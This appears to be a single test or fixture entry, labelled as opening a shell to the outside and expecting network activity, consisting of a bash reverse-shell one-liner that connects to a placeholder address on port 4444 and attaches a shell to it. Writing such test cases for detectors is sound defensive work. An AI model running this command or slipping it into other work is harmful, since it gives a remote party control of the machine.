# what: opens a shell to the outside
# expect: network
exec bash -c 'exec 3<>/dev/tcp/203.0.113.7/4444 && echo BREACH && sh <&3 >&3'
